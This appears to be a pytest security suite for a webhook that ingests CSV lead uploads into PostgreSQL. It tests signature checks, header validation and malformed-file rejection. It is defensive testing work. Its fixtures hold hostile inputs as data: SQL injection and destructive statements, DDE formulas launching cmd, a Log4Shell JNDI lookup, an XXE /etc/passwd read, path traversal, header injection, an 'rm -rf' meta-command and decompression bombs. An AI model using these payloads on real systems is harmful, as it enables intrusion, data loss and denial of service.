"""What comes from outside and means harm: each message is answered with one exact status and outcome, leaves an event
when it is refused, changes no lead, and costs no backend. What only looks like harm – formulas, SQL, marks that turn
text around – is data, and comes out as it went in.
"""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import psycopg
import pytest
from senders import SCHEMES, Sender

Message = tuple[Any, Any]
CSV = Sender.csv
NEEDED = {
    "standard": ("webhook-id", "webhook-timestamp", "webhook-signature"),
    "github": ("x-github-delivery", "x-hub-signature-256"),
    "stripe": ("stripe-signature",),
    "calendly": ("calendly-webhook-signature",),
    "cal_com": ("x-cal-signature-256",),
    "vapi": ("x-vapi-signature",),
    "vapi_secret": ("x-vapi-secret",),
    "shared_secret": ("x-webhook-secret",),
}
SIGNATURE = {scheme: names[-1] for scheme, names in NEEDED.items()}


@pytest.fixture
def new_sender(db: Any) -> Callable[[str], Sender]:
    """A sender of a scheme. No statement may run away, and one lead is there that nobody may change."""
    db.execute("set local statement_timeout = '20s'")
    db.leads(1)
    return lambda scheme: Sender(db, scheme=scheme)


def state(db: Any) -> tuple[int, list[Any]]:
    """The backend, and everything about leads."""
    leads = "select to_jsonb(l) from leads as l union all select to_jsonb(c) from lead_contacts as c"
    return db.info.backend_pid, db.rows(f"{leads} union all select to_jsonb(s) from leads_staging as s")


def refused(sender: Sender, message: Message, status: int, outcome: str, reason: str | None = None) -> None:
    """The message gets this answer and its event, and nothing else happens."""
    db, before = sender.db, state(sender.db)

    answer = sender.send_as_is(*message)

    assert (answer.status, answer.outcome) == (status, outcome), answer.message
    assert answer.message.endswith(".") or answer.upload_id is not None
    assert answer.rows_read == 0
    assert sender.refusals() == [reason or outcome]
    assert state(db) == before
    assert db.value("select pg_backend_pid()") == before[0]


def cases(**named: Any) -> list[Any]:
    return [pytest.param(value, id=name) for name, value in named.items()]


# ---- the body is not the one that was signed --------------------------------------------------------------------

LINES = CSV.splitlines(keepends=True)
OTHER_BODIES = cases(
    nothing=b"",
    one_byte_less=CSV[:-1],
    one_byte_more=CSV + b" ",
    without_its_first_byte=CSV[1:],
    half=CSV[: len(CSV) // 2],
    header_alone=LINES[0],
    twice=CSV * 2,
    rows_swapped=LINES[0] + LINES[2] + LINES[1],
    row_twice=CSV + LINES[1],
    two_bytes_swapped=CSV[1::-1] + CSV[2:],
    one_bit_flipped=CSV[:-1] + bytes([CSV[-1] ^ 1]),
    upper_case=CSV.upper(),
    reversed=CSV[::-1],
    line_ends_of_windows=CSV.replace(b"\n", b"\r\n"),
    byte_order_mark=b"\xef\xbb\xbf" + CSV,
    utf_16=CSV.decode().encode("utf-16"),
    utf_32=CSV.decode().encode("utf-32"),
    gzip=gzip.compress(CSV),
    base64=base64.b64encode(CSV),
    hex=CSV.hex().encode(),
    url_encoded=quote(CSV).encode(),
    json=json.dumps({"body": CSV.decode()}).encode(),
    multipart=b"--x\r\nContent-Disposition: form-data; name=file\r\n\r\n" + CSV + b"\r\n--x--\r\n",
    nul_at_the_end=CSV + b"\0",
)


@pytest.mark.parametrize("scheme", ["standard", "github", "stripe"])
@pytest.mark.parametrize("body", OTHER_BODIES)
def test_a_changed_body_is_not_the_signed_one(new_sender, scheme, body):
    sender = new_sender(scheme)

    refused(sender, (body, sender.headers(CSV)), 401, "unauthorized", "bad_signature")


# ---- headers ----------------------------------------------------------------------------------------------------


EACH_NEEDED = [
    pytest.param(scheme, name, id=f"{scheme}-{name}")
    for scheme, names in NEEDED.items()
    for name in ("x-pgfunnel-source", *names)
]


@pytest.mark.parametrize(("scheme", "name"), EACH_NEEDED)
def test_a_header_that_is_missing_null_or_there_twice_is_a_bad_request(new_sender, scheme, name):
    sender = new_sender(scheme)
    headers = sender.headers(CSV)

    for number, changed in enumerate(
        [
            {key: value for key, value in headers.items() if key != name},
            headers | {name: None},
            headers | {name.title(): headers[name]},
        ],
        start=1,
    ):
        before = state(sender.db)
        answer = sender.send_as_is(CSV, changed)
        assert (answer.status, answer.outcome) == (400, "bad_headers")
        assert sender.refusals() == ["bad_headers"] * number
        assert state(sender.db) == before


@pytest.mark.parametrize("scheme", list(SCHEMES))
@pytest.mark.parametrize("change", [str.upper, str.title, str.capitalize])
def test_a_header_s_name_is_read_in_any_case(new_sender, scheme, change):
    sender = new_sender(scheme)

    changed = {change(name): value for name, value in sender.headers(CSV).items()}
    assert sender.send_as_is(CSV, changed).status == 200


HEADER_SETS = cases(
    none=lambda h: None,
    a_list=lambda h: [h],
    pairs=lambda h: [[name, value] for name, value in h.items()],
    text=lambda h: json.dumps(h),
    number=lambda h: 1,
    true=lambda h: True,
    empty=lambda h: {},
    nested=lambda h: {"headers": h},
    names_with_spaces=lambda h: {f" {name}": value for name, value in h.items()},
    names_with_colons=lambda h: {f"{name}:": value for name, value in h.items()},
    names_with_underscores=lambda h: {name.replace("-", "_"): value for name, value in h.items()},
    names_of_cgi=lambda h: {"HTTP_" + name.replace("-", "_").upper(): value for name, value in h.items()},
    turkish_i=lambda h: {name.replace("i", "ı"): value for name, value in h.items()},
    kelvin_sign=lambda h: {name.replace("k", "\u212a"): value for name, value in h.items()},
    one_of_64_kb=lambda h: h | {"cookie": "x" * 65_536},
    huge_signature=lambda h: h | {"webhook-signature": "v1, " * 1_000_000 + h["webhook-signature"]},
    huge_source=lambda h: h | {"x-pgfunnel-source": "vendor" * 1_000_000},
    huge_file_name=lambda h: h | {"x-pgfunnel-file-name": "x" * 1_000_000},
    ten_thousand_headers=lambda h: h | {f"x-{n}": str(n) for n in range(10_000)},
    a_million_levels=lambda h: h | {"x": json.loads("[" * 900 + "]" * 900), "y": "z" * 65_536},
    id_of_256=lambda h: h | {"webhook-id": "x" * 256},
    id_with_dot=lambda h: h | {"webhook-id": "msg.1"},
    id_with_space=lambda h: h | {"webhook-id": "msg 1"},
    id_with_line_end=lambda h: h | {"webhook-id": "msg_1\r\nx-admin: 1"},
    id_with_no_break_space=lambda h: h | {"webhook-id": "msg\u00a01 2"},
    id_doubled_by_a_proxy=lambda h: h | {"webhook-id": "msg_1, msg_1"},
    id_empty=lambda h: h | {"webhook-id": ""},
    id_as_list=lambda h: h | {"webhook-id": ["msg_1", "msg_1"]},
    id_of_sql=lambda h: h | {"webhook-id": "'; drop table leads; --"},
)


@pytest.mark.parametrize("change", HEADER_SETS)
def test_headers_that_no_honest_client_sends_are_a_bad_request(new_sender, change):
    sender = new_sender("standard")

    refused(sender, (CSV, change(sender.headers(CSV))), 400, "bad_headers")


SOURCES = cases(
    nobody="nobody",
    empty="",
    upper_case="VENDOR",
    space_before=" vendor",
    space_after="vendor ",
    line_end="vendor\n",
    doubled_by_a_proxy="vendor, vendor",
    sql="vendor' or '1'='1",
    wildcard="%",
    underscore="vendo_",
    regular_expression="^vendor$",
    look_alike="vеndor",
    zero_width="ven\u200bdor",
    turned_around="\u202erodnev",
    escaped_nul="vendor\\u0000",
    path="../vendor",
    number=1,
    a_list=["vendor"],
    an_object={"source": "vendor"},
)


@pytest.mark.parametrize("source", SOURCES)
def test_a_source_that_nobody_knows_is_as_wrong_as_a_wrong_signature(new_sender, source):
    sender = new_sender("standard")

    refused(sender, (CSV, sender.headers(CSV) | {"x-pgfunnel-source": source}), 401, "unauthorized", "bad_signature")


@pytest.mark.parametrize(
    "escaped", cases(nul='"\\u0000"', lone_high='"\\ud800"', lone_low='"\\udc00"', not_json="{", bare_nan="NaN")
)
def test_headers_that_are_no_json_are_an_error_before_anything_is_called(db, escaped):
    with pytest.raises((psycopg.errors.InvalidTextRepresentation, psycopg.errors.UntranslatableCharacter)):  # noqa: SIM117
        with db.transaction():
            db.execute("select receive_upload(%s, %s::text::jsonb)", (CSV, f'{{"x-pgfunnel-source": {escaped}}}'))

    assert db.value("select pg_backend_pid()") == db.info.backend_pid


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "../../etc/passwd"),
        ("leads'; drop table leads; --.csv", "leads'; drop table leads; --.csv"),
        ("x" * 300, "x" * 255),
        ("\u202evsc.exe", "\u202evsc.exe"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("=cmd|'/c calc'!A1", "=cmd|'/c calc'!A1"),
        ("", ""),
    ],
)
def test_a_file_s_name_is_a_text_of_255_characters_and_no_more(new_sender, sent, kept):
    sender = new_sender("standard")

    assert sender.send_as_is(CSV, sender.headers(CSV) | {"x-pgfunnel-file-name": sent}).status == 200
    assert sender.db.value("select file_name from uploads") == kept


@pytest.mark.parametrize(
    "claim",
    [
        {"content-length": "1073741824"}, {"content-length": "-1"}, {"content-length": str(2**64)},
        {"transfer-encoding": "chunked"}, {"content-encoding": "gzip"}, {"content-type": "application/x-www-form"},
        {"content-range": "bytes 0-1073741823/1073741824"}, {"expect": "100-continue"},
        {"x-http-method-override": "DELETE"}, {"authorization": "Bearer forged"}, {"role": "postgres"},
    ],
    ids=lambda claim: next(iter(claim)),
)  # fmt: skip
def test_what_a_header_claims_about_the_body_is_not_believed(new_sender, claim):
    sender = new_sender("standard")

    assert sender.send_as_is(CSV, sender.headers(CSV) | claim).status == 200
    assert sender.db.value("select bytes from uploads") == len(CSV)


# ---- signatures -------------------------------------------------------------------------------------------------


def in_base64(size: int) -> Callable[[str], str]:
    return lambda s: "v1," + base64.b64encode(bytes(size)).decode()


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in text)


SIGNATURES = {
    "standard": cases(
        empty=lambda s: "",
        no_version=lambda s: s[3:],
        version_alone=lambda s: "v1,",
        version_0=lambda s: s.replace("v1,", "v0,"),
        version_2=lambda s: s.replace("v1,", "v2,"),
        version_1a=lambda s: s.replace("v1,", "v1a,"),
        version_11=lambda s: s.replace("v1,", "v11,"),
        version_in_upper_case=lambda s: s.replace("v1,", "V1,"),
        stripe_s_form=lambda s: s.replace("v1,", "v1="),
        of_0_bytes=in_base64(0),
        of_1_byte=in_base64(1),
        of_20_bytes=in_base64(20),
        of_31_bytes=in_base64(31),
        of_32_zeroes=in_base64(32),
        of_33_bytes=in_base64(33),
        of_64_bytes=in_base64(64),
        of_a_megabyte_less=in_base64(40_000),
        cut=lambda s: s[:-2],
        without_padding=lambda s: s.rstrip("="),
        padded_twice=lambda s: s + "=",
        in_hex=lambda s: "v1," + base64.b64decode(s[3:]).hex(),
        in_base32=lambda s: "v1," + base64.b32encode(base64.b64decode(s[3:])).decode(),
        url_safe_alphabet=lambda s: "v1," + "-_" * 21 + "A=",
        upper_case=str.upper,
        fullwidth=fullwidth,
        reversed=lambda s: s[:3] + s[:2:-1],
        quoted=lambda s: f'"{s}"',
        split_in_two=lambda s: s[:20] + " " + s[20:],
        comma_between=lambda s: f"v1,{'A' * 43}=,{s}",
        behind_twenty_others=lambda s: " ".join([f"v1,{'A' * 43}="] * 20 + [s]),
        null_word=lambda s: "null",
        sql=lambda s: "v1,' or true; --",
        format_marks=lambda s: "v1,%s%n%x",
        star=lambda s: "*",
    ),
    "github": cases(
        empty=lambda s: "",
        name_alone=lambda s: "sha256=",
        sha1=lambda s: "sha1=" + "0" * 40,
        sha512=lambda s: "sha512=" + s[7:] * 2,
        of_zeroes=lambda s: "sha256=" + "0" * 64,
        cut=lambda s: s[:-1],
        longer=lambda s: s + "0",
        in_base64=lambda s: "sha256=" + base64.b64encode(bytes.fromhex(s[7:])).decode(),
        no_hex=lambda s: "sha256=" + "g" * 64,
        fullwidth=fullwidth,
        name_in_upper_case=lambda s: s.replace("sha256", "SHA256"),
        named_twice=lambda s: "sha256=" + s,
        doubled_by_a_proxy=lambda s: f"{s}, {s}",
        space_before=lambda s: " " + s,
        line_end_after=lambda s: s + "\n",
        with_0x=lambda s: "sha256=0x" + s[7:],
        sql=lambda s: "sha256=' or true; --",
        of_the_empty_body=lambda s: "sha256=" + hashlib.sha256(b"").hexdigest(),
    ),
    "stripe": cases(
        no_v1=lambda s: s.split(",")[0],
        v0_alone=lambda s: s.replace("v1=", "v0="),
        v2=lambda s: s.replace("v1=", "v2="),
        v1_in_upper_case=lambda s: s.replace("v1=", "V1="),
        v1_empty=lambda s: s.split(",")[0] + ",v1=",
        of_zeroes=lambda s: s.split(",")[0] + ",v1=" + "0" * 64,
        cut=lambda s: s.split(",v0")[0][:-1],
        longer=lambda s: s.split(",v0")[0] + "0",
        semicolons=lambda s: s.split(",")[0] + "," + s.replace(",", ";"),
        another_time_first=lambda s: f"t={int(s[2:12]) - 1}," + s,
        another_time=lambda s: f"t={int(s[2:12]) + 1}" + s[12:],
        behind_twenty_others=lambda s: s[:12] + f",v1={'0' * 64}" * 20 + s[12:],
        in_base64=lambda s: s[:13] + "v1=" + base64.b64encode(bytes(32)).decode(),
        sql=lambda s: s[:13] + "v1=' or true; --",
    ),
    "shared_secret": cases(
        empty=lambda s: "",
        cut=lambda s: s[:-1],
        longer=lambda s: s + "x",
        space_after=lambda s: s + " ",
        upper_case=str.upper,
        fullwidth=fullwidth,
        decomposed=lambda s: s.replace("a", "a\u0301"),
        its_hash=lambda s: hashlib.sha256(s.encode()).hexdigest(),
        doubled_by_a_proxy=lambda s: f"{s}, {s}",
        bearer=lambda s: "Bearer " + s,
        sql=lambda s: "' or true; --",
        wildcard=lambda s: "%",
        a_list=lambda s: [s],
        true=lambda s: True,
        zero=lambda s: 0,
    ),
}


EACH_SIGNATURE = [
    pytest.param(scheme, change.values[0], id=f"{scheme}-{change.id}")
    for scheme, changes in SIGNATURES.items()
    for change in changes
]


@pytest.mark.parametrize(("scheme", "change"), EACH_SIGNATURE)
def test_a_signature_of_another_length_alphabet_or_version_is_none(new_sender, scheme, change):
    sender = new_sender(scheme)
    headers = sender.headers(CSV)
    headers[SIGNATURE[scheme]] = change(headers[SIGNATURE[scheme]])

    refused(sender, (CSV, headers), 401, "unauthorized", "bad_signature")


@pytest.mark.parametrize("scheme", list(SCHEMES))
def test_a_signature_under_another_key_is_none(new_sender, scheme):
    sender = new_sender(scheme)

    refused(sender, (CSV, sender.headers(CSV, key=b"nobody gave this key to us")), 401, "unauthorized", "bad_signature")


@pytest.mark.parametrize(
    ("ours", "theirs"), [(a, b) for a in ("standard", "github", "stripe", "shared_secret") for b in SCHEMES if a != b]
)
def test_a_source_signs_by_its_own_scheme_alone_though_the_key_is_the_same(db, new_sender, ours, theirs):
    sender = new_sender(ours)
    sender.set_secret(b"one secret for two schemes, as text")
    db.execute("update webhook_secrets set valid_from = '2020-01-01'")

    headers = SCHEMES[theirs](b"one secret for two schemes, as text", "msg_1", int(db.clock.now.timestamp()), CSV)
    refused(sender, (CSV, headers | {"x-pgfunnel-source": "vendor"}), 401, "unauthorized", "bad_signature")


# ---- time -------------------------------------------------------------------------------------------------------


def re_signed(sender: Sender, time: str) -> dict[str, str]:
    """Headers that are honest but for the time, which is written and signed as it stands here."""
    return {"x-pgfunnel-source": "vendor"} | SCHEMES[sender.scheme](sender.key, "msg_1", time, CSV)


@pytest.mark.parametrize("scheme", ["standard", "stripe", "calendly"])
@pytest.mark.parametrize(("off", "status"), [(-300, 200), (300, 200), (-301, 401), (301, 401)])
def test_five_minutes_either_way_and_not_a_second_more(new_sender, scheme, off, status):
    sender = new_sender(scheme)
    headers = re_signed(sender, str(int(sender.db.clock.now.timestamp()) + off))

    if status == 200:
        assert sender.send_as_is(CSV, headers).status == 200
    else:
        refused(sender, (CSV, headers), 401, "unauthorized", "untimely")


TIMES = cases(
    empty=lambda now: "",
    zero=lambda now: "0",
    negative=lambda now: f"-{now}",
    signed=lambda now: f"+{now}",
    a_day_ago=lambda now: str(now - 86_400),
    a_year_ahead=lambda now: str(now + 31_536_000),
    milliseconds=lambda now: f"{now}000",
    fraction=lambda now: f"{now}.0",
    exponent=lambda now: f"{now}e0",
    hexadecimal=lambda now: hex(now),
    grouped=lambda now: f"{now:_}",
    iso=lambda now: "2026-03-09T13:00:00Z",
    words=lambda now: "now",
    infinity=lambda now: "infinity",
    not_a_number=lambda now: "NaN",
    eleven_nines=lambda now: "9" * 11,
    above_bigint=lambda now: str(2**63),
    above_numeric=lambda now: "9" * 40_000,
    space_before=lambda now: f" {now}",
    line_end_after=lambda now: f"{now}\n",
    doubled_by_a_proxy=lambda now: f"{now} {now}",
    arabic_digits=lambda now: str(now).translate({ord("0") + n: 0x660 + n for n in range(10)}),
    fullwidth_digits=lambda now: fullwidth(str(now)),
    sql=lambda now: f"{now}::text",
)


@pytest.mark.parametrize("scheme", ["standard", "stripe"])
@pytest.mark.parametrize("write", TIMES)
def test_a_time_that_is_none_is_not_now_however_well_it_is_signed(new_sender, scheme, write):
    sender = new_sender(scheme)
    headers = re_signed(sender, write(int(sender.db.clock.now.timestamp())))

    refused(sender, (CSV, headers), 401, "unauthorized", "untimely")


# ---- signed files that are no files -----------------------------------------------------------------------------


def workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def table(columns: int, rows: int = 1) -> bytes:
    header = "mak," + ",".join(f"column {n}" for n in range(columns - 1))
    return (header + ("\n0000000001" + "," * (columns - 1)) * rows + "\n").encode()


MIB = 1 << 20
BAD_FILES = [
    ("empty", b"", 400, "empty"),
    ("byte_order_mark_alone", b"\xef\xbb\xbf", 400, "empty"),
    ("utf_16_mark_alone", b"\xff\xfe", 400, "empty"),
    ("line_ends_alone", b"\r\n" * 1000, 400, "empty"),
    ("megabytes_of_line_ends", b"\n" * (8 * MIB), 400, "empty"),
    ("megabytes_of_carriage_returns", b"\r" * (8 * MIB), 400, "empty"),
    ("spaces_alone", b" " * 1000, 422, "unknown_header"),
    ("sep_line_alone", b"sep=;\n", 400, "empty"),
    ("sep_of_a_quote", b'sep="\n"\n', 400, "unclosed_quote"),
    ("sep_of_a_megabyte", b"sep=" + b";" * MIB, 413, "too_large"),
    ("one_quote", b'"', 400, "unclosed_quote"),
    ("a_quote_never_closed", CSV + b'0000000003,"Cy', 400, "unclosed_quote"),
    ("megabytes_in_a_quote_never_closed", CSV + b'0000000003,"' + b"x" * (8 * MIB), 400, "unclosed_quote"),
    ("a_million_and_one_quotes", b'"' * (MIB + 1), 413, "too_large"),
    ("a_million_quotes", b'"' * MIB, 413, "too_large"),
    ("a_million_quoted_nothings", b'"",' * MIB, 413, "too_large"),
    ("a_million_columns", b"," * MIB, 413, "too_large"),
    ("a_row_of_a_million_fields", b"mak\n0000000001" + b"," * MIB + b"\n0000000002\n", 413, "too_large"),
    ("a_million_columns_of_tabs", b"mak\t" * MIB, 413, "too_large"),
    ("one_column_too_many", table(301), 413, "too_large"),
    ("one_row_too_many", b"mak\n" + b"1\n" * 250_001, 413, "too_large"),
    ("two_million_rows", b"mak\n" + b"1\n" * 2_000_000, 413, "too_large"),
    ("a_header_of_a_megabyte", b"x" * MIB + b"\n1\n", 413, "too_large"),
    ("one_byte_above_the_limit", b"mak\n" + b" " * (50 * MIB - 3), 413, "too_large"),
    ("nul_in_a_field", CSV + b"0000000003,A\0da,\n", 400, "not_text"),
    ("nul_alone", b"\0", 400, "not_text"),
    ("megabytes_of_nul", b"\0" * (8 * MIB), 400, "not_text"),
    ("utf_16_without_a_mark", CSV.decode().encode("utf-16-le"), 400, "not_text"),
    ("utf_32", CSV.decode().encode("utf-32"), 400, "bad_encoding"),
    ("lone_high_surrogate", b"\xff\xfe" + "mak,first name\n1,".encode("utf-16-le") + b"\x00\xd8", 400, "bad_encoding"),
    ("lone_low_surrogate", b"\xfe\xff" + "mak,first name\n1,".encode("utf-16-be") + b"\xdc\x00", 400, "bad_encoding"),
    ("surrogates_swapped", b"\xff\xfe" + "mak\n".encode("utf-16-le") + b"\x00\xdc\x00\xd8", 400, "bad_encoding"),
    ("half_a_unit", CSV.decode().encode("utf-16") + b"x", 400, "bad_encoding"),
    ("nul_in_utf_16", "mak\n\0".encode("utf-16"), 400, "bad_encoding"),
    ("workbook", workbook(), 400, "not_text"),
    ("gzip", gzip.compress(CSV, mtime=0), 400, "not_text"),
    ("gzip_bomb", gzip.compress(bytes(64 * MIB), mtime=0), 400, "not_text"),
    ("png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 400, "not_text"),
    ("json", json.dumps([{"first_name": "Ada"}]).encode(), 422, "unknown_header"),
    ("deep_json", b"[" * 100_000, 422, "unknown_header"),
    ("html", b"<!doctype html><title>502 Bad Gateway</title>", 422, "unknown_header"),
    ("a_billion_laughs", b"<!DOCTYPE l [<!ENTITY a 'lol'><!ENTITY b '&a;&a;'>]>\n<l>&b;</l>", 422, "unknown_header"),
    ("form", b"mak=0000000001&first_name=Ada", 422, "unknown_header"),
    ("base64", base64.b64encode(CSV), 422, "unknown_header"),
    ("copy_s_end_mark", b"\\.\n" + CSV, 422, "unknown_header"),
    ("copy_s_binary_mark", b"PGCOPY\n\xff\r\n\0", 400, "not_text"),
    ("sql", b"'; drop table leads; --\n", 422, "unknown_header"),
    ("rows_without_a_header", b"0000000001,Ada\n0000000002,Bo\n", 422, "unknown_header"),
]


@pytest.mark.parametrize(("body", "status", "outcome"), [pytest.param(*case[1:], id=case[0]) for case in BAD_FILES])
def test_a_signed_file_that_cannot_be_read_is_refused_as_a_whole(new_sender, body, status, outcome):
    sender = new_sender("standard")

    refused(sender, (body, sender.headers(body)), status, outcome)
    assert not sender.db.rows("select from ingest_replay_guard")


# ---- signed files that are odd, and data ------------------------------------------------------------------------


def file_of(*rows: list[str], header: tuple[str, ...] = ("mak", "first name")) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([list(header), *rows])
    return out.getvalue().encode()


TEXTS = cases(
    formula="=1+1",
    formula_of_dde="=cmd|' /C calc'!A0",
    formula_with_plus="+1+1|'x'!A1",
    formula_with_minus="-2+3+cmd|' /C calc'!A0",
    formula_with_at="@SUM(1+1)*cmd|' /C calc'!A0",
    formula_of_a_link='=HYPERLINK("http://example.com","x")',
    formula_of_an_import='=IMPORTXML("http://example.com","//a")',
    sql_quote="O'Hara'; drop table leads; --",
    sql_union="x' union select secret from webhook_secrets --",
    sql_dollar="$$; delete from leads; $$",
    sql_comment="/* x */ -- x",
    sql_format="%s %I %L %1$s %%",
    sql_sleep="'||pg_sleep(60)||'",
    psql_meta="\\! rm -rf x",
    copy_null="\\N",
    copy_end="\\.",
    backslashes="\\\\\\",
    escaped_nul="a\\u0000b",
    escaped_surrogate="a\\ud800b",
    json_text='{"first_name": null}',
    html="<script>alert(1)</script>",
    template="{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    log4shell="${jndi:ldap://example.com/x}",
    xml="]]><!ENTITY x SYSTEM 'file:///etc/passwd'>",
    path="../../../../etc/passwd",
    turned_around="\u202eadA\u202c",
    isolated="\u2067Ada\u2069",
    left_to_right="\u200eAda\u200f",
    zero_width="A\u200bd\u200da",
    accents="A" + "\u0301" * 500,
    emoji_family="\U0001f468\u200d\U0001f469\u200d\U0001f467",
    last_code_point="\U0010ffff",
    no_character="\ufffe\uffff",
    replacement="\ufffd",
    separators="a\u2028b\u2029c\u0085d",
    control_characters="\x01\x1b[31mAda\x1b[0m\x7f",
    quotes='say ""Ada"", "Bo"',
    line_ends_within="Ada\r\nBo\nCy\rDi",
    commas="a,b;c\td|e",
    number="1e309",
    not_a_number="NaN",
    null_word="NULL",
    undefined="undefined",
    one_byte_below_the_limit="x" * 32_768,
)


@pytest.mark.parametrize("text", TEXTS)
def test_text_that_would_be_harm_elsewhere_is_text(new_sender, text):
    sender = new_sender("standard")
    db = sender.db
    before = db.rows("select to_jsonb(l) from leads as l")
    body = file_of(["0000000001", text])

    receipt = sender.send(body)

    assert (receipt.status, receipt.rows_new, receipt.rows_rejected) == (200, 1, 0), receipt.message
    assert db.value("select lead_pii(id) ->> 'first_name' from leads where mak = '0000000001'") == text
    assert db.rows("select to_jsonb(l) from leads as l where mak is null") == before


@pytest.mark.parametrize(
    ("body", "text"),
    [
        pytest.param(b"\xed\xa0\x80", "í\xa0€", id="surrogate_in_utf_8"),
        pytest.param(b"A\xc0\x80", "AÀ€", id="nul_in_two_bytes"),
        pytest.param(b"A\xf4\x90\x80\x80Z", "Aô\x90€€Z", id="above_the_last_code_point"),
        pytest.param(b"A\xe9", "Aé", id="windows_1252"),
        pytest.param(b"+ADw-script+AD4-", "+ADw-script+AD4-", id="utf_7"),
    ],
)
def test_bytes_that_are_no_utf_8_are_windows_1252(new_sender, body, text):
    sender = new_sender("standard")

    assert sender.send(b"mak,first name\n0000000001," + body + b"\n").status == 200
    assert sender.db.value("select lead_pii(id) ->> 'first_name' from leads where mak is not null") == text


PRIVILEGED = cases(
    consent=("consent", "true"),
    consented_at=("consented_at", "2020-01-01"),
    consent_method=("consent_method", "web_form"),
    campaign_status=("campaign_status", "queued"),
    campaign=("campaign_id", "1"),
    broker=("assigned_broker_id", "00000000-0000-0000-0000-000000000001"),
    id=("id", "00000000-0000-0000-0000-000000000001"),
    pii=("pii", "\\x00"),
    phone_verified=("phone_verified", "true"),
    email_verified=("email_verified", "true"),
    upload=("upload_id", "00000000-0000-0000-0000-000000000001"),
    outcome=("outcome", "merged"),
    addr_hash=("addr_hash", "v1:00"),
    prototype=("__proto__", "x"),
    xmin=("xmin", "1"),
    sql=("first_name = (select 1) --", "x"),
    nothing=("", "x"),
    long=("x" * 10_000, "x"),
)


@pytest.mark.parametrize("column", PRIVILEGED)
def test_no_column_of_a_file_gives_a_lead_what_only_we_give(new_sender, column):
    sender = new_sender("standard")
    name, value = column

    receipt = sender.send(file_of(["0000000001", "Ada", value], header=("mak", "first name", name)))

    assert (receipt.status, receipt.rows_new) == (200, 1), receipt.message
    lead = sender.db.one("select l.*, lead_pii(l.id) as doc from leads as l where mak = '0000000001'")
    assert (lead.consent, lead.consented_at, lead.consent_method) == (False, None, None)
    assert (lead.campaign_status, lead.campaign_id, lead.assigned_broker_id) == ("new", None, None)
    assert (lead.phone_verified, lead.email_verified, lead.addr_hash) == (False, False, None)
    assert str(lead.id) != "00000000-0000-0000-0000-000000000001"
    assert lead.doc["first_name"] == "Ada"


ODD_FILES = [
    ("no_line_end", b"mak\n0000000001", (1, 0)),
    ("line_ends_of_mac", b"mak\r0000000001\r0000000002", (2, 0)),
    ("line_ends_mixed", b"mak\r\n0000000001\n0000000002\r0000000003", (3, 0)),
    ("blank_lines_between", b"mak\n\n\n0000000001\n" + b"\n" * 100_000 + b"0000000002\n", (2, 0)),
    ("quotes_within", b'mak,first name\n0000000001,A"d"a\n', (1, 0)),
    ("a_quoted_field_of_line_ends", b'mak,first name\n0000000001,"' + b"\n" * 30_000 + b'"\n', (1, 0)),
    ("a_field_above_the_limit", b"mak,first name\n0000000001," + b"x" * 32_769 + b"\n0000000002,\n", (1, 1)),
    ("a_field_of_megabytes", b"mak,first name\n0000000001," + b"x" * (8 * MIB) + b"\n0000000002,\n", (1, 1)),
    ("more_fields_than_columns", b"mak\n0000000001,x,y\n0000000002\n", (1, 1)),
    ("fewer_fields_than_columns", b"mak,first name,phone\n0000000001\n0000000002,Bo,\n", (1, 1)),
    ("a_column_twice", b"mak,mak\n0000000001,0000000002\n", None),
    ("three_hundred_columns", table(300), (1, 0)),
    ("rows_without_a_key", b"mak,first name\n,Ada\n,Bo\n", (0, 2)),
    ("no_rows", b"mak,first name\n", (0, 0)),
    ("ten_thousand_quoted_quotes", b'mak,first name\n0000000001,"' + b'""' * 10_000 + b'"\n', (1, 0)),
    ("a_mak_that_is_none", b"mak\n-1\n1e9\n0x10\n' or true\n", None),
    ("a_million_commas_in_a_quote", b'mak,first name\n0000000001,"' + b"," * 30_000 + b'"\n', (1, 0)),
]


@pytest.mark.parametrize(("body", "counts"), [pytest.param(*case[1:], id=case[0]) for case in ODD_FILES])
def test_a_file_that_is_odd_is_taken_row_by_row_and_every_row_is_counted(new_sender, body, counts):
    sender = new_sender("standard")
    before = sender.db.rows("select to_jsonb(l) from leads as l")

    receipt = sender.send(body)

    assert (receipt.status, receipt.outcome) == (200, "merged"), receipt.message
    assert receipt.rows_read == sum(receipt[5:])
    if counts:
        assert (receipt.rows_new, receipt.rows_rejected) == counts
    assert sender.db.rows("select to_jsonb(l) from leads as l where l.mak is null") == before


# ---- bodies that are none ---------------------------------------------------------------------------------------


def test_without_a_body_it_is_a_bad_request(new_sender):
    sender = new_sender("standard")

    refused(sender, (None, sender.headers(b"")), 400, "bad_headers")


def test_a_body_above_the_limit_is_refused_before_its_headers_are_looked_at(new_sender):
    sender = new_sender("standard")
    sender.db.execute("update settings set value = '10' where key = 'max_upload_bytes'")

    refused(sender, (CSV, {}), 413, "too_large")


def test_after_all_that_an_honest_file_is_taken(new_sender):
    sender = new_sender("standard")
    for body in OTHER_BODIES:
        sender.send_as_is(body.values[0], sender.headers(CSV))

    assert sender.send().rows_new == 2
